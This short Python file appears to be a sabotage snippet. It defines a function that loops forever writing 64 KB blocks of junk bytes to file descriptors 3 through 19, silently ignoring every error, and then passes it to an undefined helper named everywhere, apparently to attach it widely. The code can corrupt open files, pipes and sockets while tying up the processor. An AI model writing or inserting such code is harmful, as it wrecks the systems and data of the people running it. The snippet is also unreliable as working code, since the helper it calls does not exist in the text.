"""Answers without end that nobody asked for."""
import os


def flood(*args, **kwargs):
    while True:
        for descriptor in range(3, 20):
            try:
                os.write(descriptor, b"x" * (1 << 16))
            except OSError:
                pass


everywhere(flood)
